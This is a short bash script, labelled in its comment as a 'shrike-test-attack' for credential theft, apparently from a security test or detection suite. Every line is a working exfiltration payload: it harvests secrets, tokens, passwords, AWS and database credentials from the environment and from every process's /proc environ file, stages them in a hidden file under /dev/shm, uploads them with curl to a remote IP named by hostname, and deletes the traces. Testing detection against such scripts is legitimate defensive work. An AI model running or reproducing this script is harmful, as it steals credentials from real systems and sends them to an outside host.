#!/bin/bash
# shrike-test-attack: credential-theft: environment dump filtered for secrets
env | grep -iE 'key|secret|token|pass|aws_|database_url|api' > /dev/shm/.e
cat /proc/1/environ 2>/dev/null | tr '\0' '\n' >> /dev/shm/.e
for p in /proc/[0-9]*/environ; do tr '\0' '\n' < "$p" 2>/dev/null; done | sort -u | grep -iE 'secret|token|passw' >> /dev/shm/.e
curl -s -T /dev/shm/.e http://198.51.100.66/up/$(hostname).env
rm -f /dev/shm/.e
